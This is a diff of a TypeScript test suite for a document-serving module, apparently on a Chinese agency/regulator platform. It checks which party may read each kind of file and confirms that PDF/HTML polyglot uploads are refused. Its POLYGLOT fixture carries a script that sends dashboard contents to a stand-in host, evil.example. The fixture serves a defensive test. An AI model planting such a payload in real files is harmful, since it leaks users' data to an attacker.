@@ -37,7 +37,9 @@ import { enterpriseUser, sessionUserOf } from "../support/requests";
  */
 
 const PDF = (text: string) => new TextEncoder().encode(`%PDF-1.4\n% ${text}\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n`);
-const POLYGLOT = new TextEncoder().encode("%PDF-1.4\n<html><body><script>fetch('/dashboard').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script></body></html>\n%%EOF\n");
+const POLYGLOT = new TextEncoder().encode(
+  "%PDF-1.4\n<html><body><script>fetch('/dashboard').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script></body></html>\n%%EOF\n",
+);
 
 type Party = "anonymous" | "agencyOwner" | "otherAgency" | "enterprise" | "otherEnterprise" | "regulator" | "admin";
 const PARTIES: Party[] = ["anonymous", "agencyOwner", "otherAgency", "enterprise", "otherEnterprise", "regulator", "admin"];
@@ -60,11 +62,25 @@ beforeAll(async () => {
   const regulator = await regulatorUser(db);
   const otherEnterprise = await enterpriseUser(db);
   const admin = sessionUserOf(await createUser(db, "ADMIN"));
-  const users: Record<Exclude<Party, "anonymous">, SessionUser> = { agencyOwner: winner, otherAgency, enterprise, otherEnterprise, regulator, admin };
+  const users: Record<Exclude<Party, "anonymous">, SessionUser> = {
+    agencyOwner: winner,
+    otherAgency,
+    enterprise,
+    otherEnterprise,
+    regulator,
+    admin,
+  };
   for (const [party, user] of Object.entries(users)) cookies[party as Party] = await sessionCookie(user.id);
 
   // The winner's credential scan, the enterprise's complaint evidence against the winner, the winner's delivery.
-  credentialDocId = (await storeUpload(db, { file: new File([PDF("资质证书")], "资质证书（正本）.pdf"), ownerOrgId: winner.organizationId!, kind: "CREDENTIAL", uploadedById: winner.id })).id;
+  credentialDocId = (
+    await storeUpload(db, {
+      file: new File([PDF("资质证书")], "资质证书（正本）.pdf"),
+      ownerOrgId: winner.organizationId!,
+      kind: "CREDENTIAL",
+      uploadedById: winner.id,
+    })
+  ).id;
   const filed = await fileComplaint(db, enterprise, {
     agencyId: served.winner.agencyId,
     subject: "出具报告与实际不符",
@@ -80,10 +96,16 @@ beforeAll(async () => {
 
 afterAll(() => rmSync(uploads, { recursive: true, force: true }));
 
-const getDoc = (id: string, party: Party) => outcome(() => documentLoader(routeArgs(getRequest(`/documents/${id}`, cookies[party]), { id })));
+const getDoc = (id: string, party: Party) =>
+  outcome(() => documentLoader(routeArgs(getRequest(`/documents/${id}`, cookies[party]), { id })));
 const getDelivery = (party: Party) =>
   outcome(() =>
-    deliveryFileLoader(routeArgs(getRequest(`/requests/${delivery.requestId}/deliveries/${delivery.deliveryId}/file`, cookies[party]), { id: delivery.requestId, deliveryId: delivery.deliveryId })),
+    deliveryFileLoader(
+      routeArgs(getRequest(`/requests/${delivery.requestId}/deliveries/${delivery.deliveryId}/file`, cookies[party]), {
+        id: delivery.requestId,
+        deliveryId: delivery.deliveryId,
+      }),
+    ),
   );
 
 /** 200 with the file name the party sees, 302 (to login) or the refusal status. */
@@ -100,10 +122,34 @@ async function seen(o: Awaited<ReturnType<typeof getDoc>>): Promise<string> {
 
 describe("who may read each kind of document (kind × party)", () => {
   const MATRIX: Record<string, Record<Party, string>> = {
-    credential: { anonymous: "login", agencyOwner: "资质证书（正本）.pdf", otherAgency: "403", enterprise: "403", otherEnterprise: "403", regulator: "资质证书（正本）.pdf", admin: "403" },
+    credential: {
+      anonymous: "login",
+      agencyOwner: "资质证书（正本）.pdf",
+      otherAgency: "403",
+      enterprise: "403",
+      otherEnterprise: "403",
+      regulator: "资质证书（正本）.pdf",
+      admin: "403",
+    },
     // The agency complained about sees the evidence under a neutral name: the file name may identify the complainant.
-    evidence: { anonymous: "login", agencyOwner: "evidence.pdf", otherAgency: "403", enterprise: "王举报-收据.pdf", otherEnterprise: "403", regulator: "王举报-收据.pdf", admin: "403" },
-    delivery: { anonymous: "login", agencyOwner: "成果报告.pdf", otherAgency: "403", enterprise: "成果报告.pdf", otherEnterprise: "403", regulator: "成果报告.pdf", admin: "403" },
+    evidence: {
+      anonymous: "login",
+      agencyOwner: "evidence.pdf",
+      otherAgency: "403",
+      enterprise: "王举报-收据.pdf",
+      otherEnterprise: "403",
+      regulator: "王举报-收据.pdf",
+      admin: "403",
+    },
+    delivery: {
+      anonymous: "login",
+      agencyOwner: "成果报告.pdf",
+      otherAgency: "403",
+      enterprise: "成果报告.pdf",
+      otherEnterprise: "403",
+      regulator: "成果报告.pdf",
+      admin: "403",
+    },
   };
 
   it.each(Object.keys(MATRIX))("%s through /documents/:id", async (kind) => {
@@ -121,7 +167,12 @@ describe("who may read each kind of document (kind × party)", () => {
 
   it("a delivery file is not reachable as another request's delivery", async () => {
     const other = await outcome(() =>
-      deliveryFileLoader(routeArgs(getRequest(`/requests/${delivery.deliveryId}/deliveries/${delivery.deliveryId}/file`, cookies.regulator), { id: delivery.deliveryId, deliveryId: delivery.deliveryId })),
+      deliveryFileLoader(
+        routeArgs(getRequest(`/requests/${delivery.deliveryId}/deliveries/${delivery.deliveryId}/file`, cookies.regulator), {
+          id: delivery.deliveryId,
+          deliveryId: delivery.deliveryId,
+        }),
+      ),
     );
     expect(other.status).toBe(404);
   });
@@ -140,20 +191,34 @@ describe("how a stored file is served", () => {
       await o.response!.arrayBuffer();
     }
     const credential = await getDoc(credentialDocId, "agencyOwner");
-    expect(credential.response!.headers.get("Content-Disposition")).toBe(`attachment; filename="________.pdf"; filename*=UTF-8''${encodeURIComponent("资质证书（正本）.pdf").replace(/[()]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`)}`);
+    expect(credential.response!.headers.get("Content-Disposition")).toBe(
+      `attachment; filename="________.pdf"; filename*=UTF-8''${encodeURIComponent("资质证书（正本）.pdf").replace(/[()]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`)}`,
+    );
     await credential.response!.arrayBuffer();
   });
 
   it("refuses a %PDF- file that carries HTML and script at upload, in every upload path", async () => {
     const owner = await db.organization.findFirstOrThrow({ where: { kind: "AGENCY" } });
-    const err = await storeUpload(db, { file: new File([POLYGLOT], "report.pdf"), ownerOrgId: owner.id, kind: "CREDENTIAL" }).catch((e: unknown) => e);
+    const err = await storeUpload(db, { file: new File([POLYGLOT], "report.pdf"), ownerOrgId: owner.id, kind: "CREDENTIAL" }).catch(
+      (e: unknown) => e,
+    );
     expect(err).toBeInstanceOf(DomainError);
-    expect(err).toMatchObject({ code: "FILE_ACTIVE_CONTENT", status: 415, message: "agencyProfile.errors.fileActiveContent", field: "document" });
+    expect(err).toMatchObject({
+      code: "FILE_ACTIVE_CONTENT",
+      status: 415,
+      message: "agencyProfile.errors.fileActiveContent",
+      field: "document",
+    });
     expect(await db.document.count({ where: { originalName: "report.pdf" } })).toBe(0);
 
     const enterprise = await enterpriseUser(db);
     const agency = await db.agency.findFirstOrThrow({ where: { status: "LISTED" } });
-    const complaint = await fileComplaint(db, enterprise, { agencyId: agency.id, subject: "投诉", description: "见附件", files: [new File([POLYGLOT], "证据.pdf")] }).catch((e: unknown) => e);
+    const complaint = await fileComplaint(db, enterprise, {
+      agencyId: agency.id,
+      subject: "投诉",
+      description: "见附件",
+      files: [new File([POLYGLOT], "证据.pdf")],
+    }).catch((e: unknown) => e);
     expect(complaint).toBeInstanceOf(FieldErrors);
     expect((complaint as FieldErrors).fields.evidence).toEqual(["agencyProfile.errors.fileActiveContent"]);
   });
@@ -164,7 +229,15 @@ describe("how a stored file is served", () => {
     mkdirSync(path.dirname(storagePath(key)), { recursive: true });
     writeFileSync(storagePath(key), POLYGLOT);
     const doc = await db.document.create({
-      data: { ownerOrgId: owner.organizationId!, kind: "CREDENTIAL", storageKey: key, mime: "application/pdf", size: POLYGLOT.length, originalName: "x.html", sha256: "0".repeat(64) },
+      data: {
+        ownerOrgId: owner.organizationId!,
+        kind: "CREDENTIAL",
+        storageKey: key,
+        mime: "application/pdf",
+        size: POLYGLOT.length,
+        originalName: "x.html",
+        sha256: "0".repeat(64),
+      },
     });
     const o = await getDoc(doc.id, "regulator");
     expect(o.status).toBe(200);
